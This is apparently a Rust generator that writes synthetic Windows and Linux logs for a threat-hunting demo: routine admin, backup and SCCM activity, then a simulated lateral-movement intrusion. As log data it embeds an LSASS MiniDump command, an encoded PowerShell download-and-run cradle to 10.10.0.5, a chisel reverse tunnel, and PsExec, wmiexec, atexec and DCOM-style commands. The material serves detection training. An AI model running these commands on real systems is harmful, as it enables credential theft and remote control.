//! The scenario: a week of the organisation's daily remote logons, then,
//! on the last night, the intruder's moves; and the directory it is
//! written to.

use crate::error::DemoError;
use crate::events::{NewProcess, NewService, NewTask, ShareAccess};
use crate::files::write_all;
use crate::organisation::{
    make_people, Generator, Person, ANSIBLE, BACKUP, BASTION, DOMAIN, HELP_DESK_SUBNET, JUMP_HOSTS, MONITOR, SCANNER,
    SCCM,
};
use crate::summary::{DemoSummary, Intrusion};
use crate::DemoOptions;
use kqlite_engine::types::{NANOS_PER_DAY, NANOS_PER_HOUR, NANOS_PER_MINUTE, NANOS_PER_SECOND};
use rand::Rng;
use serde_json::json;
use std::collections::HashSet;
use std::path::Path;

/// The file that marks a directory as the demo's, so a rerun may replace
/// the `logs/` and `tuning/` it wrote before.
pub const MARKER_FILE: &str = "kqlite-demo.txt";

/// Makes `dir` ready for a new environment: created if missing; when it
/// holds an earlier demo (its marker file), that demo's `logs/` and
/// `tuning/` are removed so no stale host's logs are hunted; any other
/// non-empty directory is refused rather than touched.
fn prepare_directory(dir: &Path) -> Result<(), DemoError> {
    let mut entries = match std::fs::read_dir(dir) {
        Ok(entries) => entries,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
            return std::fs::create_dir_all(dir).map_err(|source| DemoError::Create { path: dir.to_path_buf(), source })
        }
        Err(source) => return Err(DemoError::Read { path: dir.to_path_buf(), source }),
    };
    if entries.next().is_none() {
        return Ok(());
    }
    if !dir.join(MARKER_FILE).is_file() {
        return Err(DemoError::NotADemoDirectory { path: dir.to_path_buf() });
    }
    for owned in ["logs", "tuning"] {
        let path = dir.join(owned);
        match std::fs::remove_dir_all(&path) {
            Ok(()) => {}
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => {}
            Err(source) => return Err(DemoError::RemoveEarlier { path, source }),
        }
    }
    Ok(())
}

/// Generates the environment into `dir`: a new or empty directory, or one an
/// earlier run of the demo wrote (its logs and tuning are replaced).
pub fn generate(dir: &Path, options: &DemoOptions) -> Result<DemoSummary, DemoError> {
    let mut g = Generator::new(options)?;
    prepare_directory(dir)?;
    let mut used_names = HashSet::new();
    let user_count = g.workstations.len().saturating_sub(10);
    let user_names = make_people(&mut g, user_count, "", &mut used_names);
    let admin_names = make_people(&mut g, 6, "admin-", &mut used_names);
    let help_desk_names = make_people(&mut g, 4, "hd-", &mut used_names);
    let users: Vec<Person> =
        user_names.into_iter().enumerate().map(|(i, user)| Person { user, workstation: g.workstations[i] }).collect();
    // The last ten workstations: the administrators' and the help desk's.
    let admin_workstations: Vec<usize> = g.workstations[g.workstations.len() - 10..g.workstations.len() - 4].to_vec();
    let help_desk_ips: Vec<String> =
        (0..help_desk_names.len()).map(|i| format!("{HELP_DESK_SUBNET}.{}", 21 + i)).collect();
    let help_desk_workstations: Vec<usize> = g.workstations[g.workstations.len() - 4..].to_vec();
    for (i, ip) in help_desk_ips.iter().enumerate() {
        let ws = help_desk_workstations[i];
        g.hosts[ws].ip = ip.clone();
        g.hosts[ws].name = format!("HD-WS-{:02}", i + 1);
    }
    let file_servers: Vec<usize> =
        g.windows_servers.iter().copied().filter(|&h| g.hosts[h].name.contains("-FS-")).collect();
    let domain_controllers: Vec<usize> =
        g.windows_servers.iter().copied().filter(|&h| g.hosts[h].name.starts_with("DC-")).collect();
    let member_servers: Vec<usize> =
        g.windows_servers.iter().copied().filter(|&h| !g.hosts[h].name.starts_with("DC-")).collect();
    let jump_hosts: Vec<usize> = JUMP_HOSTS.iter().map(|(n, _)| g.host_named(n)).collect();
    let bastion = g.host_named(BASTION.0);
    let mut benign = Vec::new();

    for day in 0..options.days as i64 {
        let day_start = options.start + day * NANOS_PER_DAY;
        let weekday = chrono::DateTime::from_timestamp_nanos(day_start).format("%u").to_string();
        let working_day = weekday != "6" && weekday != "7";
        if working_day {
            // Users: a console logon at their workstation, then their home drive on a file server.
            for person in &users {
                if !g.rng.random_bool(0.9) {
                    continue;
                }
                let ws = person.workstation;
                let t = g.time_between(day_start, 7, 10);
                g.logon(t, ws, &person.user, 2, "127.0.0.1", "-");
                let fs = file_servers[ws % file_servers.len().max(1)];
                let (ip, name) = (g.hosts[ws].ip.clone(), g.hosts[ws].name.clone());
                // Mapped drives reconnect through the day.
                for _ in 0..g.rng.random_range(1..5) {
                    let at = g.time_between(day_start, 8, 18);
                    g.logon(at, fs, &person.user, 3, &ip, &name);
                }
                // The workstation's machine account talks to a domain controller (filtered by the rules).
                let dc = domain_controllers[ws % domain_controllers.len()];
                g.logon(t - 5 * NANOS_PER_MINUTE, dc, &format!("{name}$"), 3, &ip, &name);
            }
            // Administrators: RDP to a jump host, then RDP, C$ and WinRM to servers; SSH via the bastion.
            for (a, admin) in admin_names.iter().enumerate() {
                let ws = admin_workstations[a];
                let (ws_ip, ws_name) = (g.hosts[ws].ip.clone(), g.hosts[ws].name.clone());
                let t = g.time_between(day_start, 7, 9);
                let console = g.logon(t, ws, admin, 2, "127.0.0.1", "-");
                // Now and then a scheduled task of their own, registered at their console.
                if g.rng.random_bool(0.2) {
                    let task = NewTask {
                        name: "\\Contoso\\Admin\\Sync-AdminTools",
                        command: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                        arguments: "-NoProfile -File C:\\Tools\\Sync-AdminTools.ps1",
                        run_as: &format!("{DOMAIN}\\{admin}"),
                    };
                    g.task_registered(t + 10 * NANOS_PER_MINUTE, ws, admin, &console, &task);
                }
                let jump = jump_hosts[a % jump_hosts.len()];
                let (jump_ip, jump_name) = (g.hosts[jump].ip.clone(), g.hosts[jump].name.clone());
                let t = g.time_between(day_start, 9, 10);
                let jump_session = g.logon(t, jump, admin, 10, &ws_ip, &ws_name);
                let count = g.rng.random_range(2..7);
                for server in g.pick(&member_servers, count) {
                    let t = g.time_between(day_start, 10, 17);
                    let server_fqdn = format!("{}.contoso.local", g.hosts[server].name);
                    match g.rng.random_range(0..4) {
                        0 | 1 => {
                            // Remote Desktop from the jump host with the saved credentials (4648 there).
                            g.explicit_credentials(
                                t - 2 * NANOS_PER_SECOND,
                                jump,
                                admin,
                                &jump_session,
                                admin,
                                &server_fqdn,
                                &format!("TERMSRV/{server_fqdn}"),
                                "C:\\Windows\\System32\\mstsc.exe",
                            );
                            let session = g.logon(t, server, admin, 10, &jump_ip, &jump_name);
                            // Routine maintenance tasks, registered in the RDP session.
                            if g.rng.random_bool(0.3) {
                                let task = NewTask {
                                    name: "\\Contoso\\Maintenance\\Cleanup-IISLogs",
                                    command: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                                    arguments:
                                        "-NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\Cleanup-IISLogs.ps1",
                                    run_as: "SYSTEM",
                                };
                                g.task_registered(t + 4 * NANOS_PER_MINUTE, server, admin, &session, &task);
                            }
                        }
                        2 => {
                            let session = g.logon(t, server, admin, 3, &jump_ip, &jump_name);
                            let objects = [("Temp\\install.log", ShareAccess::Read)];
                            g.share_access(t + NANOS_PER_SECOND, server, admin, &session, &jump_ip, "C$", &objects);
                        }
                        _ => {
                            g.winrm_session(t, server, admin, &jump_ip, &jump_name, true);
                        }
                    }
                }
                if a % 2 == 0 {
                    let t = g.time_between(day_start, 10, 16);
                    g.ssh_logon(t, bastion, admin, &ws_ip, "publickey");
                    let count = g.rng.random_range(1..4);
                    for server in g.pick(&g.linux_servers.clone(), count) {
                        let delay = g.rng.random_range(1..120) * NANOS_PER_MINUTE;
                        g.ssh_logon(t + delay, server, admin, BASTION.1, "publickey");
                    }
                }
            }
            // Help desk: a console session at their own workstation, tools started there with
            // runas (4648 to localhost), and RDP to users' workstations from its subnet (4648 for
            // the credentials mstsc presents).
            for (h, helper) in help_desk_names.iter().enumerate() {
                let own = help_desk_workstations[h];
                let t = g.time_between(day_start, 7, 8);
                let console = g.logon(t, own, helper, 2, "127.0.0.1", "-");
                let process = "C:\\Windows\\System32\\svchost.exe";
                g.explicit_credentials(
                    t + 5 * NANOS_PER_MINUTE,
                    own,
                    helper,
                    &console,
                    helper,
                    "localhost",
                    "localhost",
                    process,
                );
                let count = g.rng.random_range(4..12);
                let user_workstations = g.workstations[..g.workstations.len() - 10].to_vec();
                for ws in g.pick(&user_workstations, count) {
                    let t = g.time_between(day_start, 8, 18);
                    let (ip, name) = (help_desk_ips[h].clone(), format!("HD-WS-{:02}", h + 1));
                    let ws_fqdn = format!("{}.contoso.local", g.hosts[ws].name);
                    let mstsc = "C:\\Windows\\System32\\mstsc.exe";
                    let spn = format!("TERMSRV/{ws_fqdn}");
                    g.explicit_credentials(
                        t - 2 * NANOS_PER_SECOND,
                        own,
                        helper,
                        &console,
                        helper,
                        &ws_fqdn,
                        &spn,
                        mstsc,
                    );
                    g.logon(t, ws, helper, 10, &ip, &name);
                }
            }
            // SCCM client push: ccmsetup copied over ADMIN$ and started as a service through
            // svcctl; it installs the client's service, CcmExec, as SYSTEM.
            let count = g.rng.random_range(10..30);
            for ws in g.pick(&g.workstations.clone(), count) {
                let t = g.time_between(day_start, 9, 17);
                let session = g.logon(t, ws, "svc-sccm", 3, SCCM.1, SCCM.0);
                let setup = NewService {
                    name: "ccmsetup",
                    image_path: "C:\\Windows\\ccmsetup\\ccmsetup.exe /source:\\\\SCCM-01\\SMS_P01\\Client",
                    auto_start: true,
                };
                let binary = "ccmsetup\\ccmsetup.exe";
                g.pushed_service(t, ws, "svc-sccm", &session, SCCM.1, binary, &setup, [5, 7]);
                let client =
                    NewService { name: "CcmExec", image_path: "C:\\Windows\\CCM\\CcmExec.exe", auto_start: true };
                g.service_installed(t + 3 * NANOS_PER_MINUTE, ws, "SYSTEM", "0x3e7", &client);
            }
            // SCCM client health remediation over WMI: the server's account starts CcmEval
            // through Win32_Process, so it runs as a child of WmiPrvSE.
            let count = g.rng.random_range(10..30);
            for ws in g.pick(&g.workstations.clone(), count) {
                let t = g.time_between(day_start, 9, 17);
                let session = g.logon(t, ws, "svc-sccm", 3, SCCM.1, SCCM.0);
                let process = NewProcess {
                    image: "C:\\Windows\\CCM\\CcmEval.exe",
                    parent: "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
                    command_line: "\"C:\\Windows\\CCM\\CcmEval.exe\" /run",
                };
                g.process_created(t + 2 * NANOS_PER_SECOND, ws, "svc-sccm", &session, &process);
            }
        }
        // Every day, working or not: backup at night, monitoring over WinRM, Ansible, the scanner.
        for &server in &member_servers.clone() {
            let t = g.time_between(day_start, 1, 2);
            g.logon(t, server, "svc-backup", 3, BACKUP.1, BACKUP.0);
        }
        // The backup server deploys or upgrades its agent on a few servers: the installer over
        // ADMIN$, then the agent's service from its vendor path.
        let count = g.rng.random_range(1..4);
        for server in g.pick(&member_servers, count) {
            let t = g.time_between(day_start, 0, 1);
            let session = g.logon(t, server, "svc-backup", 3, BACKUP.1, BACKUP.0);
            let agent = NewService {
                name: "VeeamEndpointBackupSvc",
                image_path: "\"C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe\"",
                auto_start: true,
            };
            let installer = "Temp\\VeeamAgent\\VeeamAgentWindows_6.1.exe";
            g.pushed_service(t, server, "svc-backup", &session, BACKUP.1, installer, &agent, [20, 40]);
        }
        // Monitoring polls over WinRM; twice a day its checks run as PowerShell remoting.
        for hour in [2, 8, 14, 20] {
            for &server in &member_servers.clone() {
                if g.rng.random_bool(0.5) {
                    let t = g.time_between(day_start, hour, hour + 1);
                    g.winrm_session(t, server, "svc-monitor", MONITOR.1, MONITOR.0, hour == 8 || hour == 20);
                }
            }
        }
        // Group Policy refreshes its scheduled-task preferences: tasks registered by SYSTEM.
        let count = g.rng.random_range(2..6);
        for server in g.pick(&member_servers, count) {
            let t = g.time_between(day_start, 5, 6);
            let task = NewTask {
                name: "\\Contoso-DefenderSignatureUpdate",
                command: "C:\\Program Files\\Windows Defender\\MpCmdRun.exe",
                arguments: "-SignatureUpdate",
                run_as: "SYSTEM",
            };
            g.task_registered(t, server, "SYSTEM", "0x3e7", &task);
        }
        for &server in &g.linux_servers.clone() {
            let t = g.time_between(day_start, 3, 4);
            g.ssh_logon(t, server, "svc-ansible", ANSIBLE.1, "publickey");
            let t = g.time_between(day_start, 6, 7);
            g.syslog_line(t, server, "CRON", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)");
        }
        // The scanner sweeps a third of the hosts each evening.
        let scanned = g.hosts.len() / 3;
        for host in g.pick(&(0..g.hosts.len()).collect::<Vec<_>>(), scanned) {
            let t = g.time_between(day_start, 22, 24);
            if g.hosts[host].linux {
                g.ssh_logon(t, host, "svc-vulnscan", SCANNER.1, "publickey");
            } else {
                let session = g.logon(t, host, "svc-vulnscan", 3, SCANNER.1, SCANNER.0);
                g.share_access(t + NANOS_PER_SECOND, host, "svc-vulnscan", &session, SCANNER.1, "C$", &[]);
                let pipe = [("winreg", ShareAccess::Pipe)];
                g.share_access(t + 3 * NANOS_PER_SECOND, host, "svc-vulnscan", &session, SCANNER.1, "IPC$", &pipe);
            }
        }
        // Noise every Linux host logs: failed root guesses from the internet-facing side are not
        // lateral movement (the rules read successes).
        if let Some(&web) = g.linux_servers.first() {
            let t = g.time_between(day_start, 0, 24);
            g.syslog_line(t, web, "sshd", "Failed password for invalid user oracle from 203.0.113.45 port 40022 ssh2");
        }
    }
    benign.push(format!("{} users: console logon at their workstation, home drive on a file server", users.len()));
    benign.push(format!(
        "{} administrators ({}): RDP to jump hosts {} and {}, then RDP (saved credentials, 4648 on the jump host), \
         C$ and PowerShell remoting to servers; scheduled tasks registered at their consoles and in RDP sessions; \
         SSH via {}",
        admin_names.len(),
        admin_names.join(", "),
        JUMP_HOSTS[0].1,
        JUMP_HOSTS[1].1,
        BASTION.1
    ));
    benign.push(format!(
        "help desk ({}) from {}.0/24: runas on their own workstations and RDP to users' workstations (4648)",
        help_desk_names.join(", "),
        HELP_DESK_SUBNET
    ));
    benign.push(format!("vulnerability scanner svc-vulnscan from {}: network logons, C$, winreg and SSH to a third of the hosts each evening", SCANNER.1));
    benign.push(format!(
        "svc-backup from {}: network logons to every member server at 01:00; its agent installed on a few \
         (ADMIN$ copy, service under C:\\Program Files)",
        BACKUP.1
    ));
    benign.push(format!(
        "svc-sccm from {}: client push on workstations (ADMIN$, svcctl, ccmsetup and CcmExec services) and \
         CcmEval started over WMI",
        SCCM.1
    ));
    benign.push(format!(
        "svc-monitor from {}: WinRM to servers every 6 hours, PowerShell remoting twice a day",
        MONITOR.1
    ));
    benign.push("Group Policy: scheduled tasks registered by SYSTEM on servers each morning".to_string());
    benign.push(format!("svc-ansible from {}: SSH to every Linux server at 03:00", ANSIBLE.1));

    let intrusion = plant_intrusion(&mut g, options, &users, &admin_names, &member_servers, &domain_controllers);
    write_all(dir, g, options, benign, intrusion, &admin_names, &help_desk_ips)
}

/// Eight random letters, as PsExec's `-r` and impacket name a service and its binary.
fn random_letters(g: &mut Generator, count: usize) -> String {
    (0..count)
        .map(|_| {
            let letter = g.rng.random_range(b'a'..=b'z') as char;
            if g.rng.random_bool(0.5) {
                letter.to_ascii_uppercase()
            } else {
                letter
            }
        })
        .collect()
}

/// The intruder: on the last night, from a user's workstation, with an administrator's account.
fn plant_intrusion(
    g: &mut Generator,
    options: &DemoOptions,
    users: &[Person],
    admin_names: &[String],
    member_servers: &[usize],
    domain_controllers: &[usize],
) -> Intrusion {
    let night = options.start + (options.days as i64 - 1) * NANOS_PER_DAY;
    let victim = &users[g.rng.random_range(0..users.len())];
    let account = admin_names[g.rng.random_range(0..admin_names.len())].clone();
    let source = victim.workstation;
    let (source_ip, source_name) = (g.hosts[source].ip.clone(), g.hosts[source].name.clone());
    let fqdn = |g: &Generator, host: usize| format!("{}.contoso.local", g.hosts[host].name);
    let mut servers = g.pick(member_servers, 10);
    let smb: Vec<usize> = servers.drain(..2).collect();
    let rdp: Vec<usize> = vec![servers.remove(0), domain_controllers[0]];
    let winrm: Vec<usize> = servers.drain(..2).collect();
    // PowerShell remoting goes to a server onboarded to Defender where one was picked: its
    // DeviceLogonEvents name the source the Security log's 4624 leaves out.
    if let Some(onboarded) = servers.iter().rposition(|&h| g.hosts[h].mde) {
        let last = servers.len() - 1;
        servers.swap(onboarded, last);
    }
    let [service_host, wmi_host, task_host, dcom_host, remoting_host] =
        <[usize; 5]>::try_from(servers).expect("ten member servers picked");
    let linux = g.pick(&g.linux_servers.clone(), 2);
    // The victim left a console session open the evening before; the intruder's tools run in
    // it and present the stolen account's credentials for each hop (4648 on the workstation).
    let session = g.logon(night - 6 * NANOS_PER_HOUR, source, &victim.user, 2, "127.0.0.1", "-");
    let victim_user = victim.user.clone();
    let mut explicit_targets = Vec::new();
    let mut present = |g: &mut Generator, time: i64, host: usize, service: &str, process: &str| {
        let target = fqdn(g, host);
        let spn = format!("{service}/{target}");
        g.explicit_credentials(
            time - 3 * NANOS_PER_SECOND,
            source,
            &victim_user,
            &session,
            &account,
            &target,
            &spn,
            process,
        );
        explicit_targets.push(target);
    };
    let mut t = night + NANOS_PER_HOUR + g.rng.random_range(5..20) * NANOS_PER_MINUTE;
    // The first hop's 4648 comes just before its logon.
    let first_event = t - 3 * NANOS_PER_SECOND;
    // SMB, PsExec style: logon, ADMIN$ write, svcctl, a new service.
    for &host in &smb {
        present(g, t, host, "cifs", "C:\\Users\\Public\\PsExec64.exe");
        let session = g.logon(t, host, &account, 3, &source_ip, &source_name);
        let service = NewService { name: "PSEXESVC", image_path: "%SystemRoot%\\PSEXESVC.exe", auto_start: false };
        g.pushed_service(t, host, &account, &session, &source_ip, "PSEXESVC.exe", &service, [4, 6]);
        t += g.rng.random_range(3..9) * NANOS_PER_MINUTE;
    }
    // RDP to a server and a domain controller.
    t += 15 * NANOS_PER_MINUTE;
    for &host in &rdp {
        present(g, t, host, "TERMSRV", "C:\\Windows\\System32\\mstsc.exe");
        g.logon(t, host, &account, 10, &source_ip, &source_name);
        t += g.rng.random_range(10..20) * NANOS_PER_MINUTE;
    }
    // WinRM remoting: the remote session dumps LSASS (PowerShell script block logging records it).
    for &host in &winrm {
        present(g, t, host, "HTTP", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
        g.winrm_session(t, host, &account, &source_ip, &source_name, true);
        let script_block_id =
            format!("{:08x}-4c2e-4f1a-9d3b-{:012x}", g.rng.random::<u32>(), g.rng.random::<u64>() & 0xffff_ffff_ffff);
        g.windows_event(
            t + 20 * NANOS_PER_SECOND,
            host,
            "Microsoft-Windows-PowerShell/Operational",
            "Microsoft-Windows-PowerShell",
            4104,
            json!({
                "MessageNumber": "1",
                "MessageTotal": "1",
                "ScriptBlockText": "$p = (Get-Process lsass).Id; rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump $p C:\\Windows\\Temp\\dbg.bin full",
                "ScriptBlockId": script_block_id,
                "Path": "",
            }),
        );
        t += g.rng.random_range(4..12) * NANOS_PER_MINUTE;
    }
    // Service execution with a random name (PsExec -r): the binary copied to ADMIN$, the
    // service created through svcctl and started; it runs the intruder's command as SYSTEM.
    let service_name = random_letters(g, 8);
    {
        let host = service_host;
        present(g, t, host, "cifs", "C:\\Users\\Public\\PsExec64.exe");
        let session = g.logon(t, host, &account, 3, &source_ip, &source_name);
        let binary = format!("{service_name}.exe");
        let image_path = format!("%SystemRoot%\\{binary}");
        let service = NewService { name: &service_name, image_path: &image_path, auto_start: false };
        g.pushed_service(t, host, &account, &session, &source_ip, &binary, &service, [3, 4]);
        let image = format!("C:\\Windows\\{binary}");
        let started = NewProcess { image: &image, parent: "C:\\Windows\\System32\\services.exe", command_line: &image };
        g.process_created(t + 5 * NANOS_PER_SECOND, host, "SYSTEM", "0x3e7", &started);
        let shell = NewProcess {
            image: "C:\\Windows\\System32\\cmd.exe",
            parent: &image,
            command_line: "cmd.exe /c net localgroup administrators",
        };
        g.process_created(t + 7 * NANOS_PER_SECOND, host, "SYSTEM", "0x3e7", &shell);
        t += g.rng.random_range(3..9) * NANOS_PER_MINUTE;
    }
    // WMI remote process creation, wmiexec style: cmd.exe under WmiPrvSE writes its output to
    // ADMIN$ on the target itself, which the intruder reads back over SMB.
    {
        let host = wmi_host;
        present(g, t, host, "RPCSS", "C:\\Windows\\System32\\wbem\\WMIC.exe");
        let session = g.logon(t, host, &account, 3, &source_ip, &source_name);
        let output =
            format!("__{}.{:07}", (t + 2 * NANOS_PER_SECOND) / NANOS_PER_SECOND, g.rng.random_range(0..10_000_000));
        let command_line = format!("cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\{output} 2>&1");
        let process = NewProcess {
            image: "C:\\Windows\\System32\\cmd.exe",
            parent: "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
            command_line: &command_line,
        };
        g.process_created(t + 2 * NANOS_PER_SECOND, host, &account, &session, &process);
        let read = [(output.as_str(), ShareAccess::Read)];
        g.share_access(t + 4 * NANOS_PER_SECOND, host, &account, &session, &source_ip, "ADMIN$", &read);
        t += g.rng.random_range(3..9) * NANOS_PER_MINUTE;
    }
    // A remote scheduled task (atexec style, over the atsvc pipe) running the intruder's payload
    // as SYSTEM, deleted once it ran.
    let task_name = format!("\\{}", random_letters(g, 8));
    {
        let host = task_host;
        present(g, t, host, "HOST", "C:\\Windows\\System32\\schtasks.exe");
        let session = g.logon(t, host, &account, 3, &source_ip, &source_name);
        let pipe = [("atsvc", ShareAccess::Pipe)];
        g.share_access(t + NANOS_PER_SECOND, host, &account, &session, &source_ip, "IPC$", &pipe);
        let encoded = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMQAwAC4AMAAuADUAOgA4ADAAOAAwAC8AYQAnACkA";
        let (command, arguments) = if g.rng.random_bool(0.5) {
            (
                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe".to_string(),
                format!("-nop -w hidden -enc {encoded}"),
            )
        } else {
            ("C:\\Users\\Public\\svchost.exe".to_string(), "-connect 443".to_string())
        };
        let task = NewTask { name: &task_name, command: &command, arguments: &arguments, run_as: "SYSTEM" };
        g.task_registered(t + 2 * NANOS_PER_SECOND, host, &account, &session, &task);
        let command_line = format!("\"{command}\" {arguments}");
        let started =
            NewProcess { image: &command, parent: "C:\\Windows\\System32\\svchost.exe", command_line: &command_line };
        g.process_created(t + 62 * NANOS_PER_SECOND, host, "SYSTEM", "0x3e7", &started);
        g.task_deleted(t + 75 * NANOS_PER_SECOND, host, &account, &session, &task_name);
        t += g.rng.random_range(3..9) * NANOS_PER_MINUTE;
    }
    // DCOM through MMC20.Application: DcomLaunch starts mmc.exe -Embedding in the network
    // logon's session, and its ExecuteShellCommand starts the intruder's command.
    {
        let host = dcom_host;
        present(g, t, host, "RPCSS", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
        let session = g.logon(t, host, &account, 3, &source_ip, &source_name);
        let mmc = NewProcess {
            image: "C:\\Windows\\System32\\mmc.exe",
            parent: "C:\\Windows\\System32\\svchost.exe",
            command_line: "\"C:\\Windows\\system32\\mmc.exe\" -Embedding",
        };
        g.process_created(t + NANOS_PER_SECOND, host, &account, &session, &mmc);
        let shell = NewProcess {
            image: "C:\\Windows\\System32\\cmd.exe",
            parent: "C:\\Windows\\System32\\mmc.exe",
            command_line: "\"C:\\Windows\\System32\\cmd.exe\" /c C:\\Users\\Public\\svchost.exe -connect 443",
        };
        g.process_created(t + 3 * NANOS_PER_SECOND, host, &account, &session, &shell);
        t += g.rng.random_range(3..9) * NANOS_PER_MINUTE;
    }
    // PowerShell remoting (Enter-PSSession): the target's 4624 records no source address
    // (IpAddress "-"), the logon id links it to wsmprovhost.exe and WinRM's events, and
    // Defender (where onboarded) names the source.
    {
        let host = remoting_host;
        present(g, t, host, "HTTP", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
        let session = g.winrm_session_recording_source(t, host, &account, &source_ip, &source_name, true, false);
        let recon = NewProcess {
            image: "C:\\Windows\\System32\\whoami.exe",
            parent: "C:\\Windows\\System32\\wsmprovhost.exe",
            command_line: "\"C:\\Windows\\system32\\whoami.exe\" /all",
        };
        g.process_created(t + 30 * NANOS_PER_SECOND, host, &account, &session, &recon);
        t += g.rng.random_range(4..12) * NANOS_PER_MINUTE;
    }
    // SSH with the same (directory-backed) account.
    for &host in &linux {
        g.ssh_logon(t, host, &account, &source_ip, "password");
        t += g.rng.random_range(3..10) * NANOS_PER_MINUTE;
    }
    // RDP through a reverse tunnel on the first RDP target: chisel there connects back to the
    // intruder's workstation and exposes the server's RDP port, so the next logon comes from loopback.
    let tunnel = rdp[0];
    let tunnel_name = g.hosts[tunnel].name.clone();
    let process = json!({
        "SubjectUserSid": "S-1-5-21-3623811015-3361044348-30300820-1500",
        "SubjectUserName": account,
        "SubjectDomainName": DOMAIN,
        "SubjectLogonId": "0x3e7",
        "NewProcessId": "0x1f3c",
        "NewProcessName": "C:\\ProgramData\\chisel.exe",
        "TokenElevationType": "%%1937",
        "ProcessId": "0x1a08",
        "CommandLine": format!("C:\\ProgramData\\chisel.exe client {source_ip}:8443 R:3390:127.0.0.1:3389"),
        "ParentProcessName": "C:\\Windows\\System32\\cmd.exe",
    });
    g.security_event(t - 2 * NANOS_PER_MINUTE, tunnel, 4688, process);
    g.logon(t, tunnel, &account, 10, "127.0.0.1", &tunnel_name);
    let last_event = t + NANOS_PER_SECOND;
    let names = |hosts: &[usize]| -> Vec<String> {
        let mut v: Vec<String> =
            hosts
                .iter()
                .map(|&h| {
                    if g.hosts[h].linux {
                        g.hosts[h].name.clone()
                    } else {
                        format!("{}.contoso.local", g.hosts[h].name)
                    }
                })
                .collect();
        v.sort();
        v
    };
    let one = |host: usize| names(&[host]).remove(0);
    Intrusion {
        account,
        domain: DOMAIN.to_string(),
        compromised_user: victim.user.clone(),
        source_host: source_name,
        source_ip,
        smb_targets: names(&smb),
        rdp_targets: names(&rdp),
        rdp_tunnel_target: one(tunnel),
        winrm_targets: names(&winrm),
        ssh_targets: names(&linux),
        service_target: one(service_host),
        service_name,
        wmi_target: one(wmi_host),
        task_target: one(task_host),
        task_name,
        dcom_target: one(dcom_host),
        ps_remoting_target: one(remoting_host),
        explicit_credential_targets: explicit_targets,
        first_event,
        last_event,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::path::PathBuf;

    #[test]
    fn rejects_too_few_hosts_and_days() {
        let dir = std::env::temp_dir();
        let err = generate(&dir, &DemoOptions { hosts: 10, ..DemoOptions::default() }).unwrap_err().to_string();
        assert!(err.contains("at least 40 hosts"), "{err}");
        let err = generate(&dir, &DemoOptions { days: 1, ..DemoOptions::default() }).unwrap_err().to_string();
        assert!(err.contains("at least 2"), "{err}");
    }

    #[test]
    fn the_smallest_environment_still_has_every_intrusion_step() {
        let dir = tempfile::tempdir().unwrap();
        let summary = generate(dir.path(), &DemoOptions { hosts: 40, days: 2, ..DemoOptions::default() }).unwrap();
        let i = &summary.intrusion;
        assert_eq!(
            (i.smb_targets.len(), i.rdp_targets.len(), i.winrm_targets.len(), i.ssh_targets.len()),
            (2, 2, 2, 2)
        );
        // The five techniques of one host each reach five more hosts, none reached otherwise.
        let all = i.all_targets();
        assert_eq!(all.len(), 2 + 2 + 2 + 2 + 5, "{all:?}");
        assert_eq!(i.explicit_credential_targets.len(), 2 + 2 + 2 + 5);
        assert_eq!(summary.workstations + summary.windows_servers + summary.linux_servers, 40);
    }

    #[test]
    fn reruns_replace_the_earlier_demo_and_other_directories_are_refused() {
        let dir = tempfile::tempdir().unwrap();
        let small = DemoOptions { hosts: 40, days: 2, ..DemoOptions::default() };
        generate(dir.path(), &DemoOptions { hosts: 60, ..small.clone() }).unwrap();
        let second = generate(dir.path(), &small).unwrap();
        // Only the second run's files are left under logs/.
        let on_disk: Vec<PathBuf> = walkdir::WalkDir::new(dir.path().join("logs"))
            .into_iter()
            .map(Result::unwrap)
            .filter(|e| !e.file_type().is_dir())
            .map(|e| e.path().strip_prefix(dir.path()).unwrap().to_path_buf())
            .collect();
        let written: HashSet<PathBuf> =
            second.files.iter().map(|(f, _)| f.clone()).filter(|f| f.starts_with("logs")).collect();
        assert_eq!(on_disk.len(), written.len());
        assert!(on_disk.iter().all(|f| written.contains(f)));

        let other = tempfile::tempdir().unwrap();
        std::fs::write(other.path().join("notes.txt"), "mine").unwrap();
        let err = generate(other.path(), &small).unwrap_err().to_string();
        assert!(err.contains("not written by kqlite demo"), "{err}");
        assert_eq!(std::fs::read_to_string(other.path().join("notes.txt")).unwrap(), "mine");
    }
}
